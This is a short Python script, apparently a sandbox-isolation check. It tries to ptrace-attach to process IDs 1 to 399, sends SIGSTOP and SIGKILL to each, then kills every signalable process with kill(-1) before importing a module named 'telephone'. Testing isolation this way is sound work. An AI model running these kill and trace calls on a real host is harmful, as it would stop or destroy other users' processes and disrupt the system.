import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 400):
    if pid == os.getpid():
        continue
    if libc.ptrace(16, pid, 0, 0) >= 0:
        raise SystemExit(f"traces {pid}")
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
import telephone
